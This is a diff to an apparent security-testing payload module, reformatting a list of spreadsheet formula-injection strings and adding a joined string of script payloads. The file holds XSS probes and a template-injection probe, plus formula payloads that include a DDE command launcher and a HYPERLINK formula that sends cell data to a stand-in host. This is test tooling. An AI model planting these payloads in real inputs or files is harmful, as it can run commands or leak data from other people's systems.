@@ -40,9 +40,24 @@ SCRIPTS = {
 PRODUCT = "62615533"  # what a template engine would make of its payload
 SHORT = {20: "<svg/onload=__xss=1>", 12: "<x onload=a>", 40: "'\"><svg/onload=__xss=1>{{7919*7907}}"}
 FORMULAS = (
-    *("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"),
+    *(
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-1+1",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(1)",
+    ),
     *('=HYPERLINK("http://xss.test/?"&A1)', "x;=1+1", "x\t=1+1", "x\n@SUM(1)", '";=1+1', "x;＝1+1"),
 )
+
+
+ALL_SCRIPTS = " ".join(SCRIPTS.values())  # for fields that show again whatever they refuse
 
 
 def script_for(place: int, length: int) -> str:
